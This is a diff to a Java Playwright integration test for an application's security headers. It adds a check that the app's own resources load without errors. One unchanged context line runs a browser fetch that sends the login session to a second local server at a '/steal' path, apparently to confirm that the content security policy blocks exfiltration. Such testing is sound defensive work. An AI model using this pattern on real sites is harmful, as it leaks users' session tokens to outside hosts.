@@ -83,6 +83,15 @@ class SecurityHeadersBrowserIT {
                     violations.add(message.text());
                 }
             });
+            // the application's own resources all load: the browser reports the ones that do not (a missing
+            // tab icon was a 404 on every page), including its own requests that page.onResponse never sees
+            List<String> failed = new CopyOnWriteArrayList<>();
+            page.onConsoleMessage((ConsoleMessage message) -> {
+                if (message.text().startsWith("Failed to load resource")
+                        && message.location().startsWith("http://localhost:" + port)) {
+                    failed.add(message.text() + " " + message.location());
+                }
+            });
             page.setDefaultTimeout(30_000);
             Response loginPage = page.navigate("http://localhost:" + port + "/login");
             assertThat(loginPage.headerValue("content-security-policy")).contains("frame-ancestors 'none'");
@@ -93,6 +102,7 @@ class SecurityHeadersBrowserIT {
             page.locator("vaadin-grid").getByText("customer-ended-call").click();
             page.getByText("Cost components").waitFor();
             assertThat(violations).as("what the policy blocked of the application itself").isEmpty();
+            assertThat(failed).as("the application's own requests that failed").isEmpty();
 
             Object outcome = page.evaluate("url => fetch(url).then(() => 'sent', () => 'blocked')",
                     "http://127.0.0.1:" + elsewhere.getAddress().getPort() + "/steal?session=" + login);
